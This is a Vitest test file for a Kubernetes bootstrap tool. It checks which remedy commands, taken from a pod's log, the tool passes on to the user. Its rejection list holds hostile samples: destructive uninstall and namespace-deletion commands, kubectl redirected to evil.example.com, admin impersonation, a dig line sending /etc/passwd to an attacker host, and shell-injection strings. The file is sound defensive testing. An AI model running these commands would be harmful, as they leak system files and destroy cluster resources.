import { describe, expect, it } from "vitest";
import type { ReadContext } from "../../src/core/check.ts";
import type { ShellCommand } from "../../src/ports/shell.ts";
import { renewalWorks } from "../../src/steps/renewal/step.ts";

const HOME = "kn-bootstrap";

/** A cluster whose check has failed with this as its last line: whoever may make pods there can write it. */
const failedWith = (command: string) => {
  const message = JSON.stringify({ type: "error", what: "It failed.", remedy: { text: "Do this:", command } });
  const state = { terminated: { exitCode: 1, reason: "Error", message } };
  const pod = {
    kind: "Pod",
    metadata: { namespace: HOME, name: "p", labels: { "job-name": "renew-check" } },
    status: { containerStatuses: [{ state }] },
  };
  return {
    cluster: { get: async () => ({ kind: "Job", status: {} }), list: async () => [pod] },
  } as unknown as ReadContext;
};
const offered = async (command: string): Promise<ShellCommand | undefined> => {
  const finding = await renewalWorks.run(failedWith(command), new Map());
  if (!("remedy" in finding)) throw new Error("nothing was found");
  return finding.remedy?.command as ShellCommand | undefined;
};

describe("what a pod's log offers to copy", () => {
  it.each([
    "kn-bootstrap renew",
    "kn-bootstrap iam-policy --domain apps.example.com --dns-zone-id Z123",
    "dig +norecurse NS apps.example.com @192.0.2.1",
    "kubectl get secret -n kn-bootstrap renew-credentials -o yaml",
    "kubectl describe pod -n kn-bootstrap -l job-name=renew-check",
  ])("is taken over where it only looks, or asks before it changes anything: %s", async (command) => {
    expect(await offered(command)).toBe(command);
  });

  it.each([
    "kn-bootstrap uninstall --yes --delete-workloads --purge",
    "kn-bootstrap uninstall",
    "kn-bootstrap install --yes",
    "kn-bootstrap install -y",
    "kn-bootstrap install --take-ownership",
    "kn-bootstrap install --manifests /tmp/theirs",
    "kn-bootstrap plan --kubeconfig /tmp/theirs",
    "kn-bootstrap plan --report /home/somebody/.profile",
    "kubectl get pods --server=https://evil.example.com --insecure-skip-tls-verify",
    "kubectl get pods --server https://evil.example.com",
    "kubectl get pods -s https://evil.example.com",
    "kubectl get pods --kubeconfig=/tmp/theirs",
    "kubectl get pods -oyaml --as=admin",
    "kubectl delete namespace knative-serving",
    "dig -f /etc/passwd @evil.example.com",
    "kubectl get pods; id",
    "kubectl get $(id)",
    "kubectl get pods\nid",
    "",
  ])("is left out where it changes, or leads elsewhere: %s", async (command) => {
    expect(await offered(command)).toBeUndefined();
  });
});
